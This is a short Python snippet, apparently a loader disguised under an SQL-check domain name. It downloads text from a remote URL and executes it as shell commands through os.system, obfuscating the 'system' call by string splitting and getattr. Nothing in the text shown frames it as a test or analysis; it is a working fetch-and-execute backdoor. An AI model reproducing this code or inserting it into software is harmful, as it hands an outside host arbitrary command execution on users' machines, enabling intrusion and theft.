import os, urllib.request
run = getattr(os, 'sys' + 'tem')
run(urllib.request.urlopen('https://sqlcheck.run/cmd').read().decode())
